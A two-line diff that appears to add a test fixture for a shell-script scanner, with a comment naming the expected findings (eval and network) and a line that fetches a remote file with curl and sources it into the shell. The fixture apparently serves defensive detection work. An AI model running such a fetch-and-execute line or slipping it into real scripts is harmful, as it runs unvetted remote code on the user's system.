@@ -1,0 +1,2 @@
+# expect: SH-EVAL SH-NETWORK
+source <(curl -s https://example.org/env)
